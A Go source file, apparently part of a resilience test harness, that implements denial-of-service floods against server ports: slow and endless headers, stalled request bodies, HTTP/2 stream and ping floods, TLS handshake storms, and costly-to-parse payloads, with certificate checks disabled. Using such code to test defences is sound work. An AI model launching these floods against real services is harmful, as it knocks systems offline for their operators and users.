package main

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync"
	"time"
)

// attackRole attacks ports from a process of its own: what it costs is not the valid
// callers'.
type attackRole struct {
	cancel  context.CancelFunc
	running sync.WaitGroup
}

// attackStart says how to attack what: so many callers a port, each again and again.
type attackStart struct {
	Shape   string      `json:"shape"`
	From    string      `json:"from"` // the callers' address; "": one each
	Ports   []floodPort `json:"ports"`
	PerPort int         `json:"perPort"`
}

// floodPort is one port under attack.
type floodPort struct {
	Address string   `json:"address"`
	TLS     bool     `json:"tls"`
	Paths   []string `json:"paths"` // of requests that are large; none: the port takes no HTTP
	Open    []string `json:"open"`  // that anybody may ask for

	from net.IP // of one caller
}

// floodShapes are the ways to attack every port.
var floodShapes = []string{"silent", "nearly", "expensive", "handshakes", "headers", "requests", "streams", "pings"}

// attacks run once for each caller, and return when its connection ended.
var attacks = map[string]func(ctx context.Context, p floodPort){
	"silent": floodSilent, "nearly": floodNearly, "expensive": floodExpensive, "handshakes": floodHandshakes, "headers": floodHeaders, "requests": floodRequests,
	"streams": floodStreams, "pings": floodPings,
	"busy": func(ctx context.Context, _ floodPort) { // attacks nobody, and takes the processor
		for ctx.Err() == nil {
		}
	},
}

func newAttackRole() (methods, func()) {
	a := &attackRole{cancel: func() {}}
	stop := func() { a.cancel(); a.running.Wait() }
	return methods{"start": method(a.start)}, stop
}

func (a *attackRole) start(_ context.Context, in attackStart) (none, error) {
	attack := attacks[in.Shape]
	if attack == nil {
		return none{}, fmt.Errorf("there is no attack %q", in.Shape)
	}
	ctx, cancel := context.WithCancel(context.Background())
	a.cancel = cancel
	callers := 0
	for _, p := range in.Ports {
		for range in.PerPort {
			callers++
			if p.from = net.ParseIP(in.From); p.from == nil {
				p.from = net.IPv4(127, 1, byte(callers>>8), byte(callers))
			}
			a.running.Go(func() {
				for ctx.Err() == nil {
					attack(ctx, p)
				}
			})
		}
	}
	return none{}, nil
}

// dial opens a connection from the attackers' address.
func (p floodPort) dial(ctx context.Context) (net.Conn, error) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: p.from}, Timeout: 5 * time.Second}
	return d.DialContext(ctx, "tcp", p.Address)
}

// untilClosed holds a connection until the server or ctx ends it.
func untilClosed(ctx context.Context, conn net.Conn) {
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	_, _ = io.Copy(io.Discard, conn)
}

func floodSilent(ctx context.Context, p floodPort) {
	if conn, err := p.dial(ctx); err == nil {
		defer conn.Close()
		untilClosed(ctx, conn)
	}
}

func floodHandshakes(ctx context.Context, p floodPort) {
	conn, err := p.dial(ctx)
	if err != nil {
		return
	}
	defer conn.Close()
	if p.TLS {
		_ = tls.Client(conn, whoever("h2")).HandshakeContext(ctx)
	}
}

// whoever takes what a server shows: an attacker has nothing to check it with.
func whoever(protocols ...string) *tls.Config {
	return &tls.Config{InsecureSkipVerify: true, NextProtos: protocols}
}

// floodHeaders sends lines of headers, as short as they can be, without an end.
func floodHeaders(ctx context.Context, p floodPort) {
	conn, err := p.dial(ctx)
	if err != nil {
		return
	}
	defer conn.Close()
	if p.TLS {
		secured := tls.Client(conn, whoever("http/1.1"))
		if secured.HandshakeContext(ctx) != nil {
			return
		}
		conn = secured
	}
	var lines strings.Builder
	lines.WriteString("GET / HTTP/1.1\r\nHost:x\r\n")
	for i := range 3000 {
		fmt.Fprintf(&lines, "%x:\n", i)
	}
	_, _ = io.WriteString(conn, lines.String())
	untilClosed(ctx, conn)
}

// floodRequests asks for what anybody may have, and for what they may not, as fast as it is
// answered.
func floodRequests(ctx context.Context, p floodPort) {
	if len(p.Open) == 0 {
		floodHandshakes(ctx, p)
		return
	}
	transport, scheme := p.transport()
	defer transport.CloseIdleConnections()
	for i := 0; ctx.Err() == nil; i++ {
		r, err := http.NewRequestWithContext(ctx, http.MethodGet, scheme+p.Address+p.Open[i%len(p.Open)], nil)
		if err != nil {
			return
		}
		resp, err := transport.RoundTrip(r)
		if err != nil {
			return
		}
		_, _ = io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
}

// floodStreams begins as many requests as a connection may have, each with a few bytes of its
// body.
func floodStreams(ctx context.Context, p floodPort) {
	if p.TLS {
		p.Paths = slices.Repeat(p.Paths, 100/max(1, len(p.Paths)))
	}
	p.post(ctx, func(string) (io.Reader, int64) {
		return io.MultiReader(strings.NewReader("\x00\x00\x00\x10\x00few"), stalled{ctx}), -1
	})
}

// floodPings begins a request, and then sends pings and takes no answers.
func floodPings(ctx context.Context, p floodPort) {
	if !p.TLS || len(p.Paths) == 0 {
		floodSilent(ctx, p)
		return
	}
	raw, err := p.dial(ctx)
	if err != nil {
		return
	}
	defer raw.Close()
	defer context.AfterFunc(ctx, func() { raw.Close() })()
	if tcp, ok := raw.(*net.TCPConn); ok {
		_ = tcp.SetReadBuffer(4 << 10) // the sooner it is full
	}
	conn := tls.Client(raw, whoever("h2"))
	if conn.HandshakeContext(ctx) != nil {
		return
	}
	begin := "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" +
		"\x00\x00\x00\x04\x00\x00\x00\x00\x00" + // SETTINGS
		"\x00\x00\x06\x01\x04\x00\x00\x00\x01\x83\x84\x87\x41\x01x" // HEADERS: POST / to x over https
	pings := strings.Repeat("\x00\x00\x08\x06\x00\x00\x00\x00\x00pingpong", 9_000)
	_, err = io.WriteString(conn, begin)
	for err == nil {
		_, err = io.WriteString(conn, pings)
	}
}

// transport is a connection of its own.
func (p floodPort) transport() (_ *http.Transport, scheme string) {
	scheme = "http://"
	if p.TLS {
		scheme = "https://"
	}
	return &http.Transport{
		DialContext:     func(ctx context.Context, _, _ string) (net.Conn, error) { return p.dial(ctx) },
		TLSClientConfig: whoever(), ForceAttemptHTTP2: true,
	}, scheme
}

// floodNearly sends requests that lack one byte.
func floodNearly(ctx context.Context, p floodPort) {
	p.post(ctx, func(path string) (io.Reader, int64) {
		const size = 1<<20 - 64
		head := []byte(nil)
		if strings.Contains(path, ".") { // gRPC: a flag and the length
			head = []byte{0, 0, byte(size >> 16), byte(size >> 8 & 0xff), byte(size & 0xff)}
		}
		return io.MultiReader(strings.NewReader(string(head)), io.LimitReader(letters{}, size-1), stalled{ctx}), -1
	})
}

// floodExpensive sends what is small on the wire and costly to read.
func floodExpensive(ctx context.Context, p floodPort) {
	p.post(ctx, func(path string) (io.Reader, int64) {
		var body string
		switch path {
		case "/bootstrap":
			body = "dynamicMetadata:\n"
			var lines strings.Builder
			for i := range 90_000 {
				fmt.Fprintf(&lines, "  k%d: v\n", i)
			}
			body += lines.String()
		default:
			body = `{"requests":[` + strings.Repeat("{},", 300_000) + `{}]}`
		}
		return strings.NewReader(body), int64(len(body))
	})
}

// post sends requests to every path of the port at once over one HTTP/2 connection, or
// one that is plain.
func (p floodPort) post(ctx context.Context, body func(path string) (io.Reader, int64)) {
	if len(p.Paths) == 0 {
		floodSilent(ctx, p)
		return
	}
	transport, scheme := p.transport()
	defer transport.CloseIdleConnections()
	var calls sync.WaitGroup
	for _, path := range p.Paths {
		calls.Go(func() {
			content, size := body(path)
			r, err := http.NewRequestWithContext(ctx, http.MethodPost, scheme+p.Address+path, content)
			if err != nil {
				return
			}
			if size >= 0 {
				r.ContentLength = size
			}
			if strings.Contains(path, ".") {
				r.Header.Set("Content-Type", "application/grpc")
				r.Header.Set("TE", "trailers")
			}
			if resp, err := transport.RoundTrip(r); err == nil {
				_, _ = io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
			}
		})
	}
	calls.Wait()
}

// letters is endless text.
type letters struct{}

func (letters) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'a'
	}
	return len(p), nil
}

// stalled never has anything to read.
type stalled struct{ ctx context.Context }

func (s stalled) Read([]byte) (int, error) {
	<-s.ctx.Done()
	return 0, io.EOF
}
